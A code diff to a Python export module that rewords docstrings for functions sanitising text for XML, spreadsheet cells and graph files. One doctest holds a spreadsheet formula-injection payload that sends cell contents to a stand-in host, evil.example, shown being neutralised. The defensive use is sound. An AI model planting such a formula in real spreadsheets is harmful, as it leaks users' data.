@@ -32,8 +32,9 @@ _FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 
 
 def xml_safe_text(value: str) -> str:
-    r"""``value`` without the characters XML 1.0 cannot hold (NUL, U+0001..U+001F except tab and
-    newlines, lone surrogates, U+FFFE/U+FFFF).
+    r"""Drop from ``value`` the characters XML 1.0 cannot hold.
+
+    These are NUL, U+0001..U+001F except tab and newlines, lone surrogates, U+FFFE/U+FFFF.
 
     >>> xml_safe_text("ac\x01me\x00 ✓\n")
     'acme ✓\n'
@@ -42,8 +43,10 @@ def xml_safe_text(value: str) -> str:
 
 
 def spreadsheet_cell(value: Any) -> Any:
-    r"""A value safe to put in a CSV or Excel cell: text is made :func:`xml_safe_text`, and text a
-    spreadsheet would treat as a formula gets a leading ``'`` (OWASP); other values pass as they are.
+    r"""Make a value safe to put in a CSV or Excel cell.
+
+    Text is made :func:`xml_safe_text`, and text a spreadsheet would treat as a formula gets a leading
+    ``'`` (OWASP); other values pass as they are.
 
     >>> spreadsheet_cell('=HYPERLINK("http://evil.example/?"&A1,"x")')
     '\'=HYPERLINK("http://evil.example/?"&A1,"x")'
@@ -57,7 +60,7 @@ def spreadsheet_cell(value: Any) -> Any:
 
 
 def _safe(value: Any) -> Any:
-    """A GEXF/GraphML-safe scalar, or None to leave the attribute out."""
+    """Return a GEXF/GraphML-safe scalar, or None to leave the attribute out."""
     if value is None or value is pd.NA or value is pd.NaT:
         return None
     if isinstance(value, (pd.Timestamp, dt.datetime, dt.date)):
@@ -81,7 +84,7 @@ def _node(v: Any) -> Any:
 
 
 def graph_for_export(G: nx.Graph, *, node_table: pd.DataFrame | None = None) -> nx.Graph:
-    """A copy of ``G`` whose node and edge attributes GEXF and GraphML can store.
+    """Return a copy of ``G`` whose node and edge attributes GEXF and GraphML can store.
 
     ``node_table`` (indexed by nothing, with an ``account_id`` column, e.g. the influence table)
     adds its columns as node attributes, so Gephi can size nodes by PageRank.
